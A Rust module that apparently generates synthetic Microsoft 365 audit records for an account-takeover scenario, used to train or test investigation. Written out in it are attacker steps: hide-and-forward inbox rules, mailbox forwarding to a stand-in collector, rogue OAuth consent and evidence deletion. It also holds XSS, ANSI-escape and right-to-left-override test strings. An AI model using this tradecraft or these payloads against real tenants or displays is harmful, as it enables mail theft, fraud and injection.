//! The story of an account takeover, told in audit records.
//!
//! A lure is delivered and its warning clicked away; passwords are tried, one is right, the second factor is relayed;
//! the mailbox is read for two hours; rules hide and forward mail; the mailbox itself forwards; a burst of fraud is
//! sent; an application gets lasting consent and uses it; the tracks are removed; and a colleague's account is used
//! from the same address.
//!
//! Guarantee: everything an investigation must join does join. The session of the sign-in is the session of every later
//! act, the messages destroyed are the messages sent, the alert names the record that caused it, and both accounts
//! clicked on the lure. Counts and times before the end are the same for every seed; `Step::record_ids` is the truth.

use chrono::{DateTime, TimeDelta, Utc};
use serde_json::json;

use crate::dice::Dice;
use crate::office::Office;
use crate::people::{ATTACKER_BROWSER, Person, Session, with_port};
use crate::records::defender::{self, Verdict};
use crate::records::entra::{self, Change};
use crate::records::exchange::{self, FOREST, Runner};
use crate::records::mailbox::{self, Access, BindShape, Client, DELETED_ITEMS, INBOX, Message, RuleChange, SENT_ITEMS};
use crate::records::{EXCHANGE_ONLINE_APP, GRAPH_APP};
use crate::{Record, Step, Story};

const ATTACKER_IP: &str = "203.0.113.77";
/// The same intruder over another protocol: only the session tells that it is the same.
const ATTACKER_IP_V6: &str = "2001:db8:bad:77::77";
const COLLECTOR: &str = "collector@mailbox.example.net";
const LURE_SENDER: &str = "billing@supplier-portal.example.org";
const LURE_URL: &str = "https://contoso-login.example.org/session/continue?id=7f3a";
const APPLICATION_NAME: &str = "Inbox Assistant Pro";
const SENT_COUNT: usize = 120;

/// Attack texts reach terminals, web pages and chat rooms: each of these breaks a display that does not escape.
const HOSTILE_SUBJECTS: [&str; 3] = [
    "RE: <script>alert('remittance')</script> changed account",
    "RE: remittance \u{1b}[2J\u{1b}[31mURGENT\u{1b}[0m",
    "RE: remittance \u{202e}fdp.eciovni",
];

struct Attack<'a> {
    office: &'a Office,
    dice: Dice,
    end: DateTime<Utc>,
    victim: &'a Person,
    colleague: &'a Person,
    session: Session,
    application: String,
    records: Vec<Record>,
    steps: Vec<Step>,
}

/// Plays the attack so that its last record is half an hour before `end`.
pub(crate) fn play(office: &Office, seed: u64, end: DateTime<Utc>) -> (Vec<Record>, Story) {
    let mut dice = Dice::new(seed, "takeover", 0);
    let first = dice.index(office.staff.len());
    let second = (first + 1 + dice.index(office.staff.len() - 1)) % office.staff.len();
    let victim = office.staff.get(first).unwrap_or(&office.administrator);
    let colleague = office.staff.get(second).unwrap_or(&office.administrator);
    let session = Session { id: dice.guid(), ip: ATTACKER_IP.to_owned(), browser: &ATTACKER_BROWSER };
    let application = dice.guid();
    let mut attack =
        Attack { office, dice, end, victim, colleague, session, application, records: vec![], steps: vec![] };
    attack.lure();
    attack.sign_in();
    attack.read_mail();
    attack.hide_mail();
    attack.forward_by_rule();
    attack.forward_mailbox();
    let sent = attack.send_fraud();
    attack.consent();
    attack.read_by_application();
    attack.clean_up(&sent);
    attack.second_account();
    let story = Story {
        victim: victim.user_name.clone(),
        attacker_ips: vec![ATTACKER_IP.to_owned(), ATTACKER_IP_V6.to_owned()],
        steps: attack.steps,
    };
    (attack.records, story)
}

impl<'a> Attack<'a> {
    fn before_end(&self, minutes: i64, seconds: i64) -> DateTime<Utc> {
        self.end - TimeDelta::minutes(minutes) + TimeDelta::seconds(seconds)
    }

    fn record_step(&mut self, name: &'static str, mut records: Vec<Record>) {
        for record in &mut records {
            record.malicious = true;
        }
        self.steps.push(Step { name, record_ids: records.iter().map(|record| record.id.clone()).collect() });
        self.records.append(&mut records);
    }

    fn lure(&mut self) {
        let tenant = &self.office.tenant;
        let others =
            self.office.staff.iter().filter(|person| {
                person.user_name != self.victim.user_name && person.user_name != self.colleague.user_name
            });
        let recipients: Vec<&Person> = [self.victim, self.colleague].into_iter().chain(others.take(2)).collect();
        let delivered = self.before_end(300, 0);
        let mut records = Vec::new();
        for recipient in recipients {
            let message = Message::new(&mut self.dice, "Open statement: please confirm before noon");
            let verdict = Verdict {
                message: &message,
                recipient,
                sender: LURE_SENDER,
                sender_ip: "203.0.113.25",
                verdict: "Phish",
                method: "URL malicious reputation",
                policy: "Phish",
                // Known as bad only after delivery: it lies in the inbox.
                action: "NoAction",
            };
            records.push(defender::mail_verdict(tenant, &mut self.dice, delivered, &verdict));
        }
        for (person, minutes) in [(self.victim, 288), (self.colleague, 263)] {
            let at = self.end - TimeDelta::minutes(minutes);
            records.push(defender::link_click(tenant, &mut self.dice, at, (person, &person.office_ip), LURE_URL));
        }
        self.record_step("phish", records);
    }

    fn sign_in(&mut self) {
        let tenant = &self.office.tenant;
        let mut records = Vec::new();
        for attempt in 0..6 {
            // Each attempt is a flow and a session of its own; only the last one lives on.
            let flow = self.dice.guid();
            let session = Session { id: self.dice.guid(), ..self.session.clone() };
            let outcome = if attempt % 2 == 0 { &entra::WRONG_PASSWORD_CALLED_SUCCESS } else { &entra::WRONG_PASSWORD };
            let at = self.before_end(275, attempt * 37);
            records.push(entra::sign_in(tenant, &mut self.dice, at, (self.victim, &session), outcome, &flow));
        }
        let flow = self.dice.guid();
        let finale = [(0, &entra::SECOND_FACTOR_DEMANDED), (24, &entra::KEPT_SIGNED_IN), (24, &entra::SIGNED_IN)];
        for (wait, outcome) in finale {
            let at = self.before_end(270, wait);
            let who = (self.victim, &self.session);
            records.push(entra::sign_in(tenant, &mut self.dice, at, who, outcome, &flow));
        }
        self.record_step("sign_in", records);
    }

    fn access<'b>(&'b self, client: Client<'b>) -> Access<'b> {
        Access { person: self.victim, session: &self.session, client }
    }

    fn read_mail(&mut self) {
        let tenant = &self.office.tenant;
        let mut dice = self.dice.clone();
        let mut records = Vec::new();
        for interval in 0..60 {
            let at = self.before_end(265, interval * 120);
            let shape = if interval % 3 == 2 { BindShape::Newer } else { BindShape::Classic };
            let inbox = some_messages(&mut dice, 4, 9);
            let sent = some_messages(&mut dice, 1, 3);
            let folders = [(INBOX, inbox), (SENT_ITEMS, sent)];
            records.push(mailbox::bind(tenant, &mut dice, at, self.access(Client::Web), shape, &folders));
        }
        for (minutes, path) in [(208, INBOX), (207, SENT_ITEMS)] {
            let at = self.before_end(minutes, 0);
            records.push(mailbox::sync(tenant, &mut dice, at, self.access(Client::Desktop), path));
        }
        let folders = [(INBOX, some_messages(&mut dice, 1, 2))];
        let at = self.before_end(144, 0);
        records.push(mailbox::bind(tenant, &mut dice, at, self.access(Client::Web), BindShape::Throttled, &folders));
        self.dice = dice;
        self.record_step("mail_read", records);
    }

    fn run_cmdlet(&mut self, at: DateTime<Utc>, ip: &str, what: (&str, &str), parameters: &[(&str, &str)]) -> Record {
        let client = with_port(ip, self.dice.between(40_000, 60_000));
        let runner = Runner::Human {
            person: self.victim,
            client: &client,
            session: &self.session.id,
            app_id: EXCHANGE_ONLINE_APP,
        };
        exchange::cmdlet(&self.office.tenant, &mut self.dice, at, &runner, what, parameters)
    }

    fn mailbox_path(&self) -> String {
        format!("{FOREST}/{}/{}", self.office.tenant.organization, self.victim.alias)
    }

    fn hide_mail(&mut self) {
        let object = format!("{}\\.", self.mailbox_path());
        let record = self.run_cmdlet(
            self.before_end(255, 11),
            ATTACKER_IP,
            ("New-InboxRule", &object),
            &[
                ("AlwaysDeleteOutlookRulesBlob", "False"),
                ("Force", "False"),
                ("SubjectOrBodyContainsWords", "invoice;payment;remittance;bank details"),
                ("Name", "."),
                ("MoveToFolder", "RSS Feeds"),
                ("MarkAsRead", "True"),
                ("StopProcessingRules", "True"),
            ],
        );
        self.record_step("hide_rule", vec![record]);
    }

    fn forward_by_rule(&mut self) {
        let tenant = &self.office.tenant;
        let mut dice = self.dice.clone();
        let access = self.access(Client::Desktop);
        let add = RuleChange::Add {
            name: "..",
            condition: "{(SubString IgnoreCase(SubjectProperty)=INVOICE)}",
            actions: json!([{"ActionType": "Forward", "Recipients": [COLLECTOR], "ForwardFlags": "None"}]),
        };
        let mut records = vec![mailbox::update_inbox_rules(tenant, &mut dice, self.before_end(206, 5), access, &add)];
        // The program then hands all the rules it knows back to the server, within two seconds.
        for number in 0..40 {
            let rule = RuleChange::Resync { rule_id: dice.next() as i64 };
            let at = self.before_end(206, 7 + number / 20);
            records.push(mailbox::update_inbox_rules(tenant, &mut dice, at, access, &rule));
        }
        self.dice = dice;
        self.record_step("forward_rule", records);
    }

    fn forward_mailbox(&mut self) {
        let alias = self.victim.alias.clone();
        let target = format!("smtp:{COLLECTOR}");
        let parameters =
            [("Identity", alias.as_str()), ("ForwardingSmtpAddress", &target), ("DeliverToMailboxAndForward", "True")];
        let cause = self.run_cmdlet(self.before_end(200, 3), ATTACKER_IP_V6, ("Set-Mailbox", &alias), &parameters);
        let at = self.before_end(197, 40);
        let alert = defender::forwarding_alert(&self.office.tenant, &mut self.dice, at, self.victim, &cause);
        self.record_step("mailbox_forwarding", vec![cause, alert]);
    }

    fn send_fraud(&mut self) -> Vec<Message> {
        let mut dice = self.dice.clone();
        let mut records = Vec::new();
        let mut sent = Vec::new();
        for number in 0..SENT_COUNT {
            let subject = HOSTILE_SUBJECTS.get(number).copied().unwrap_or("RE: remittance, changed account");
            let mut message = Message::new(&mut dice, subject);
            message.attachments = Some("account (new).pdf (48110b)".to_owned());
            // Five seconds apart: ten minutes in all.
            let at = self.before_end(105, number as i64 * 5);
            records.push(mailbox::send(&self.office.tenant, &mut dice, at, self.access(Client::Web), &message));
            sent.push(message);
        }
        self.dice = dice;
        self.record_step("send_burst", records);
        sent
    }

    /// One gesture, four records: same second, same pair of system ids.
    fn consent(&mut self) {
        let (service, graph, grant) = (self.dice.guid(), self.dice.guid(), self.dice.hex(24));
        let (inter, intra) = (self.dice.guid(), self.dice.guid());
        let (victim, application) = (self.victim, self.application.clone());
        let scope = "Mail.Read offline_access";
        let graph_names = format!("{GRAPH_APP};https://graph.microsoft.com");
        let permissions = format!(
            "[] => [[Id: {grant}, ClientId: {service}, PrincipalId: {}, ResourceId: {graph}, ConsentType: Principal, \
             Scope:  {scope}, CreatedDateTime: , LastModifiedDateTime ]]; ",
            victim.object_id
        );
        let own =
            entra::target("ServicePrincipal", &service, &[(APPLICATION_NAME, 1), (&application, 2), (&application, 4)]);
        let resource = entra::target("ServicePrincipal", &graph, &[("Microsoft Graph", 1)]);
        let at = self.before_end(75, 30);
        let gestures = [
            ("Add service principal.", application.as_str(), principal_properties(&application), own.clone()),
            (
                "Add delegated permission grant.",
                &graph_names,
                grant_properties(scope, &service, &graph_names),
                resource,
            ),
            ("Add app role assignment grant to user.", &application, user_properties(victim), own.clone()),
            ("Consent to application.", &application, consent_properties(permissions, &application), own),
        ];
        let mut records = Vec::new();
        for (operation, object_id, modified, target) in gestures {
            let change = Change {
                actor: victim,
                client_ip: None,
                operation,
                category: "ServicePrincipal",
                user_agent: Some(ATTACKER_BROWSER.agent),
                object_id,
                modified,
                target,
                inter_systems_id: &inter,
                intra_system_id: &intra,
            };
            records.push(entra::change(&self.office.tenant, &mut self.dice, at, change));
        }
        self.record_step("consent", records);
    }

    /// The consent at work: the same mailbox, by an application, with no browser any more.
    fn read_by_application(&mut self) {
        let mut dice = self.dice.clone();
        let mut records = Vec::new();
        for number in 0..3 {
            let folders = [(INBOX, some_messages(&mut dice, 8, 12))];
            let at = self.before_end(72, number * 120);
            let access = self.access(Client::App(&self.application));
            records.push(mailbox::bind(&self.office.tenant, &mut dice, at, access, BindShape::Newer, &folders));
        }
        self.dice = dice;
        self.record_step("application_read", records);
    }

    fn clean_up(&mut self, sent: &[Message]) {
        let tenant = &self.office.tenant;
        let mut dice = self.dice.clone();
        let mut records = Vec::new();
        for (number, batch) in sent.chunks(30).enumerate() {
            let at = self.before_end(45, number as i64 * 9);
            let what = ("HardDelete", SENT_ITEMS);
            records.push(mailbox::delete(tenant, &mut dice, at, self.access(Client::Web), what, batch));
        }
        let warnings =
            ["Undeliverable: RE: remittance, changed account", "Did you really send this?", "Unusual sign-in activity"];
        let warnings: Vec<Message> = warnings.into_iter().map(|subject| Message::new(&mut dice, subject)).collect();
        for (seconds, operation, path) in [(50, "SoftDelete", INBOX), (64, "HardDelete", DELETED_ITEMS)] {
            let at = self.before_end(45, seconds);
            records.push(mailbox::delete(
                tenant,
                &mut dice,
                at,
                self.access(Client::Web),
                (operation, path),
                &warnings,
            ));
        }
        self.dice = dice;
        let identity = format!("{}\\{}", self.victim.alias, self.dice.next());
        let what = ("Remove-InboxRule", identity.as_str());
        let parameters = [("AlwaysDeleteOutlookRulesBlob", "False"), ("Identity", &identity), ("Force", "True")];
        records.push(self.run_cmdlet(self.before_end(42, 20), ATTACKER_IP, what, &parameters));
        self.record_step("clean_up", records);
    }

    /// Was it the only account? It was not.
    fn second_account(&mut self) {
        let tenant = &self.office.tenant;
        let session = Session { id: self.dice.guid(), ..self.session.clone() };
        let flow = self.dice.guid();
        let who = (self.colleague, &session);
        let mut records = Vec::new();
        let at = self.before_end(38, 0);
        records.push(entra::sign_in(tenant, &mut self.dice, at, who, &entra::SIGNED_IN, &flow));
        for number in 0..2 {
            let folders = [(INBOX, some_messages(&mut self.dice, 2, 6))];
            let access = Access { person: self.colleague, session: &session, client: Client::Web };
            let at = self.before_end(35, number * 150);
            records.push(mailbox::bind(tenant, &mut self.dice, at, access, BindShape::Classic, &folders));
        }
        self.record_step("second_account", records);
    }
}

fn some_messages(dice: &mut Dice, low: i64, high: i64) -> Vec<Message> {
    (0..dice.between(low, high)).map(|_| Message::new(dice, "")).collect()
}

fn principal_properties(application: &str) -> Vec<(&'static str, String, &'static str)> {
    vec![
        ("AccountEnabled", "[\r\n  true\r\n]".to_owned(), "[]"),
        ("AppPrincipalId", entra::listed(application), "[]"),
        ("DisplayName", entra::listed(APPLICATION_NAME), "[]"),
        ("Included Updated Properties", "AccountEnabled, AppPrincipalId, DisplayName".to_owned(), ""),
        ("TargetId.ServicePrincipalNames", application.to_owned(), ""),
    ]
}

fn grant_properties(scope: &str, service: &str, resource: &str) -> Vec<(&'static str, String, &'static str)> {
    vec![
        ("DelegatedPermissionGrant.Scope", scope.to_owned(), ""),
        ("DelegatedPermissionGrant.ConsentType", "Principal".to_owned(), ""),
        ("ServicePrincipal.ObjectID", service.to_owned(), ""),
        ("ServicePrincipal.DisplayName", String::new(), ""),
        ("ServicePrincipal.AppId", String::new(), ""),
        ("ServicePrincipal.Name", String::new(), ""),
        ("TargetId.ServicePrincipalNames", resource.to_owned(), ""),
    ]
}

fn user_properties(victim: &Person) -> Vec<(&'static str, String, &'static str)> {
    vec![
        ("AppRole.Id", "00000000-0000-0000-0000-000000000000".to_owned(), ""),
        ("User.ObjectID", victim.object_id.clone(), ""),
        ("User.UPN", victim.user_name.clone(), ""),
        ("User.PUID", victim.puid.clone(), ""),
    ]
}

fn consent_properties(permissions: String, application: &str) -> Vec<(&'static str, String, &'static str)> {
    vec![
        ("ConsentContext.IsAdminConsent", "False".to_owned(), ""),
        ("ConsentContext.IsAppOnly", "False".to_owned(), ""),
        ("ConsentContext.OnBehalfOfAll", "False".to_owned(), ""),
        ("ConsentContext.Tags", "WindowsAzureActiveDirectoryIntegratedApp".to_owned(), ""),
        ("ConsentAction.Permissions", permissions, ""),
        ("TargetId.ServicePrincipalNames", application.to_owned(), ""),
    ]
}
